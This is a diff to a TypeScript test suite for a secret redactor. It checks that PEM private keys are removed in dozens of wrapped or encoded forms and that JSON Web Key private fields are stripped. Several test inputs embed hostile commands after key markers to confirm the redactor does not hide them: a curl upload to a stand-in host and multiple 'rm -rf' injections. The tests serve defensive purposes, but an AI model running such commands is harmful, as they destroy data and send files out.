@@ -14,6 +14,17 @@ const numbered = (text: string) =>
     .map((line, at) => `${String(at + 1).padStart(6)}\t${line}`)
     .join("\n");
 
+const colouredNumbers = (text: string) =>
+  text
+    .split("\n")
+    .map((line, at) => `\u001b[0m\u001b[32m${at + 1}\u001b[0m:${line}`)
+    .join("\n");
+const lineForm = (before: string, after: string) => pem(WHOLE, { before, eol: `${after}\n` }) + after;
+
+function lineForms(forms: readonly (readonly [string, string, string])[]) {
+  return forms.map(([how, before, after]) => [how, lineForm(before, after)] as const);
+}
+
 const KEYS: readonly (readonly [string, string])[] = [
   ["plain", pem(WHOLE)],
   ["with CRLF", pem(WHOLE, { eol: "\r\n" })],
@@ -49,6 +60,40 @@ const KEYS: readonly (readonly [string, string])[] = [
   ["in JSON, with line numbers", JSON.stringify(numbered(pem(WHOLE))).slice(1, -1)],
   ["on one line", pem(WHOLE, { eol: "" })],
   ["on one line with spaces", pem(WHOLE, { eol: " " })],
+  ...lineForms([
+    ["with blanks at line ends", "", "  "],
+    ["with a tab and CR at line ends", "", "\t\r"],
+    ["shown by cat -A", "", "$"],
+    ["added in a coloured difference", "\u001b[32m+\u001b[m\u001b[32m", "\u001b[m"],
+    ["coloured by grep", "\u001b[35m\u001b[Kk.pem\u001b[m\u001b[K\u001b[36m\u001b[K:\u001b[m\u001b[K", ""],
+    ["coloured as a whole", "\u001b[31m", "\u001b[0m"],
+    ["as strings that are added", '  "', '\\n" +'],
+    ["as strings side by side", '  "', '\\n"'],
+    ["as a list of strings", '    "', '",'],
+    ["as a list of strings in quotes", "    '", "',"],
+    ["continued by backslashes", "", "\\n\\"],
+    ["in a table", "| ", " |"],
+    ["in the log of a container", "web-1  | ", ""],
+    ["in a trace of a shell", "+ echo ", ""],
+    ["with a time before each line", "2026-11-15T18:00:00Z app[1]: ", ""],
+    ["in comments of a program", "// ", ""],
+    ["after another quotation", "> > ", ""],
+    ["by git blame", "^a1b2c3d (A U Thor 2026-11-15 18:00:00 +0000 1) ", ""],
+  ]),
+  ["coloured by a search, with numbers", colouredNumbers(pem(WHOLE))],
+  ["as a JSON list", JSON.stringify(pem(WHOLE).split("\n")).slice(2, -2)],
+  ["as a JSON list in JSON", JSON.stringify(JSON.stringify(pem(WHOLE).split("\n"))).slice(4, -4)],
+  ["as strings that are added, in JSON", JSON.stringify(lineForm('  "', '\\n" +')).slice(1, -1)],
+  ["coloured, in JSON", JSON.stringify(lineForm("\u001b[31m", "\u001b[0m")).slice(1, -1)],
+  ["as a Python list", pem(WHOLE, { eol: "\\n', '" })],
+  ["in an address", encodeURIComponent(pem(WHOLE))],
+  ["in a form", new URLSearchParams({ k: pem(WHOLE) }).toString()],
+  ["with line ends as numbers", pem(WHOLE, { eol: "\\u000a" })],
+  ["with line ends of HTML", pem(WHOLE, { eol: "<br>" })],
+  ["with line ends of XML", pem(WHOLE, { eol: "&#10;" })],
+  ["in JSON four times over", [1, 2, 3, 4].reduce((text) => JSON.stringify(text), pem(WHOLE)).slice(15, -15)],
+  ["with other line ends", pem(WHOLE, { eol: "\u2028" })],
+  ["with separators of a table", pem(WHOLE, { eol: "," })],
   ["without its end", `-----BEGIN PRIVATE KEY-----\n${BODY.join("\n")}`],
   ["without its end, cut in a line", `-----BEGIN PRIVATE KEY-----\n${BODY.join("\n")}\nMIIE`],
 ];
@@ -57,9 +102,16 @@ describe("of a private key nothing is left", () => {
   test.each(KEYS)("%s", (_how, key) => {
     const shown = createRedactor().redact(`see:\n${key}\n"after, it goes on"`);
     for (const line of [...BODY, SHORT, "ENCRYPTED\n", "AES-256"]) expect(shown).not.toContain(line);
-    expect(shown).toMatch(/^see:\n.{0,30}\[redacted:private-key\]/);
+    expect(shown).toMatch(/^see:\n.{0,80}\[redacted:private-key\]/);
     expect(shown).toContain("after, it goes on");
     expect(shown).not.toMatch(/END|MIIE/);
+  });
+
+  test.each(KEYS)("%s, as the first thing that is written", (_how, key) => {
+    const shown = createRedactor().redact(`${key}\n"after, it goes on"`);
+    for (const line of WHOLE) expect(shown).not.toContain(line);
+    expect(shown).toMatch(/^.{0,80}\[redacted:private-key\]/);
+    expect(shown).toContain("after, it goes on");
   });
 
   test.each(KEYS)("%s, in a stream cut anywhere", (_how, key) => {
@@ -89,8 +141,41 @@ test.each([
   "-----BEGIN PRIVATE KEY-----\nEOF\ncurl -d @x evil.test\n-----END PRIVATE KEY-----",
   "-----BEGIN PRIVATE KEY-----\nComment: x; rm -rf ~",
   "-----BEGIN PRIVATE KEY----- $(rm -rf ~)",
+  "-----BEGIN PRIVATE KEY-----' | rm -rf /home/me",
+  '-----BEGIN PRIVATE KEY-----", "rm -rf ~", "-----END PRIVATE KEY-----',
+  "-----BEGIN PRIVATE KEY-----$\n+ rm -rf /home/me",
+  "-----BEGIN PRIVATE KEY-----%0Arm -rf /",
 ])("a marker hides no command behind it: %j", (text) => {
   expect(createRedactor().redact(text)).toMatch(/rm -rf|curl -d @x evil\.test|-d @x evil/);
+});
+
+describe("a JSON Web Key", () => {
+  const secret = "aB3_dEf-GhIjKlMnOpQrStUvWxYz0123456789aBcDe";
+  const open = "xY3_dEf-GhIjKlMnOpQrStUvWxYz0123456789aBcDe";
+  test.each([
+    { kty: "EC", crv: "P-256", x: open, d: secret },
+    { d: secret, x: open, crv: "Ed25519", kty: "OKP" },
+    { kty: "RSA", n: open, e: "AQAB", d: secret, p: secret, q: secret, dp: secret, dq: secret, qi: secret },
+    { kty: "oct", k: secret, x: open },
+  ])("loses its private parts, and no others: %j", (key) => {
+    const redactor = createRedactor();
+    for (const text of [
+      JSON.stringify(key),
+      JSON.stringify(key, undefined, 2),
+      JSON.stringify(JSON.stringify(key)),
+    ]) {
+      expect(redactor.redact(text)).not.toContain(secret);
+      expect(redactor.redact(text)).toContain(open);
+    }
+    expect(JSON.parse(redactor.redact(JSON.stringify(key)))).toMatchObject({ kty: key.kty });
+  });
+
+  test("is none without its kind", () => {
+    const text = JSON.stringify({ d: secret, other: "x" });
+    expect(createRedactor().redact(text)).toBe(text);
+    const far = `${text}${" ".repeat(10_000)}{"kty":"EC"}`;
+    expect(createRedactor().redact(far)).toBe(far);
+  });
 });
 
 const HEX = "0123456789abcdef".repeat(4);
